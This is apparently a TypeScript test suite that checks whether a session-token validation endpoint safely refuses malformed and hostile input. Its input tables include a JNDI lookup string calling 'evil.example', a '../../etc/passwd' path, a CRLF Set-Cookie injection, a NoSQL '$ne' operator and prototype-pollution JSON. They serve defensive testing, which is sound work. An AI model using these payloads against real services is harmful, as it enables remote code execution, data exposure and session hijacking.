import { createHash } from 'node:crypto';
import request from 'supertest';
import type { Test } from 'supertest';
import { createSourceApp, issuerOptions, SECRET, VALIDATE } from './issuer-app.js';
import { openTestStore } from './store.js';
import type { TestStore } from './store.js';
import { createTargetApp, LANDING } from './target-app.js';

// Adapted from the bad-input corpus, groups token, json and header: every case by every way in. The token
// in it is good, so that whatever slips through uses it up and is seen.

const flip = (token: string, at: number) =>
  token.slice(0, at) + (token[at] === 'A' ? 'B' : 'A') + token.slice(at + 1);

const TEXTS: Record<string, (token: string) => string> = {
  'one bit flipped': (token) => flip(token, 20),
  'the checksum changed': (token) => flip(token, 63),
  'an empty text': () => '',
  'one character short': (token) => token.slice(0, -1),
  'twice the token': (token) => token + token,
  '8 kB of A': () => 'A'.repeat(7500),
  padding: (token) => `${token}=`,
  'the standard alphabet': (token) => token.replace(/.{4}$/, '+/+/'),
  'upper case': (token) => token.toUpperCase(),
  'a blank first': (token) => ` ${token}`,
  'a line end': (token) => `${token}\r\n`,
  'a blank in the middle': (token) => `${token.slice(0, 20)} ${token.slice(20)}`,
  'NUL in the middle': (token) => `${token.slice(0, 20)}\0${token.slice(20)}`,
  'a Cyrillic letter': (token) => token.replace('a', '\u0430'),
  'a combining mark': (token) => `${token}\u0301`,
  'a byte order mark': (token) => `\ufeff${token}`,
  'a change of direction': (token) => `\u202e${token}`,
  'a semicolon': (token) => `${token};token=x`,
  'the hash': (token) => createHash('sha256').update(token).digest('base64url'),
  'the hash as it is stored': (token) => createHash('sha256').update(token).digest('hex'),
  'a path': () => '../../etc/passwd',
  'a header': () => 'x\r\nSet-Cookie: a=b',
  'a format string': () => '%s%s%n$1${jndi:ldap://evil.example/a}',
  'another prefix': (token) => `hx9${token.slice(3)}`,
};

const VALUES: Record<string, (token: string) => unknown> = {
  ...TEXTS,
  null: () => null,
  'a number': () => 5,
  'a list': (token) => [token],
  'a query operator': () => ({ $ne: null }),
  'an object that writes itself': (token) => ({ toPostgres: token, toString: token }),
};

const JSON_TEXTS: Record<string, (token: string) => string> = {
  'trailing garbage': (token) => `{"session_token":"${token}"}x`,
  'a text': (token) => `"${token}"`,
  'a number': () => '5',
  'a list': (token) => `["${token}"]`,
  'nothing in it': () => '{}',
  'the last of two keys bad': (token) => `{"session_token":"${token}","session_token":"x"}`,
  'a prototype': (token) => `{"__proto__":{"session_token":"${token}","admin":true}}`,
  'a constructor': (token) => `{"constructor":{"prototype":{"session_token":"${token}","admin":true}}}`,
  'a token inside': (token) => `{"a":{"session_token":"${token}"}}`,
  'characters that stand for broken ones': () => '{"session_token":"\ufffd\ufffd"}',
  '3,000 lists': () => `{"session_token":${'['.repeat(3000)}${']'.repeat(3000)}}`,
  '100,000 objects': () => `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`,
};

let store: TestStore;
beforeAll(async () => {
  store = await openTestStore();
});
afterAll(() => store.close());

const postToTarget = (): Test => request(createTargetApp(store.sessions)).post(LANDING);
const postToSource = (): Test =>
  request(createSourceApp(issuerOptions(store.sessions)))
    .post(VALIDATE)
    .set('x-shared-secret', SECRET);

/** Sends it, and checks what holds for every bad request. */
async function expectHarmless(token: string, call: Test): Promise<void> {
  const { status, text, headers } = await call;
  expect([400, 413]).toContain(status);
  const reply = text + JSON.stringify(headers);
  expect(reply).not.toContain(token.slice(8, 30));
  expect(reply).not.toContain(SECRET);
  expect(headers).not.toHaveProperty('set-cookie');
  expect(Object.keys(Object.prototype)).toEqual([]);
  expect({}).not.toHaveProperty('admin');
  expect((await store.countRows()).used).toBe(0);
}

describe.each([
  ['crossAppAuth', postToTarget],
  ['validate-session', postToSource],
])('bad input, by %s', (_, post) => {
  it.each(Object.entries(VALUES))('%s for a token is refused, without a query', async (__, mutate) => {
    const token = await store.issueToken();
    const queries = await store.countQueries(async () => {
      await post()
        .send({ session_token: mutate(token) })
        .expect(400);
    });
    expect(queries).toBe(0);
    await expectHarmless(token, post().send({ session_token: mutate(token) }));
  });

  it.each(Object.entries(JSON_TEXTS))('JSON with %s is refused', async (__, write) => {
    const token = await store.issueToken();
    await expectHarmless(token, post().type('json').send(write(token)));
  });
});

describe('bad input, by a form', () => {
  it.each(Object.entries(TEXTS))('%s for a token is refused', async (_, mutate) => {
    const token = await store.issueToken();
    const form = `session_token=${encodeURIComponent(mutate(token))}`;
    await expectHarmless(token, postToTarget().type('form').send(form));
  });
});

describe('harmless input beside a good token', () => {
  it.each([
    '"hasOwnProperty":1',
    '"then":"x"',
    '"__proto__":{"admin":true}',
    '"constructor":{"prototype":1}',
  ])('%s changes nothing', async (field) => {
    for (const post of [postToTarget, postToSource]) {
      const body = `{"session_token":"${await store.issueToken()}",${field}}`;
      await post().type('json').send(body).expect(200);
    }
    expect({}).not.toHaveProperty('admin');
  });

  it('a byte order mark before the JSON is no 500', async () => {
    for (const post of [postToTarget, postToSource]) {
      const body = `\ufeff{"session_token":"${await store.issueToken()}"}`;
      const { status } = await post().type('json').send(body);
      expect([200, 400]).toContain(status);
    }
  });
});
